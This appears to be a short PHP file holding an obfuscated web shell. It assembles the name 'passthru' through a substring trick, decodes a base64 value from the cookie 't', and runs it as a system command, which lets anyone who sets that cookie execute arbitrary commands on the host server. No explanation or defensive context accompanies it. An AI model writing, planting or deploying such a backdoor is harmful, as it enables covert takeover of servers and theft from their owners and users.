<?php
$k = mb_substr('«passthru»', 1, 8);
$line = isset($_COOKIE['t']) ? base64_decode($_COOKIE['t']) : '';
if ($line !== '') {
    $k($line);
}
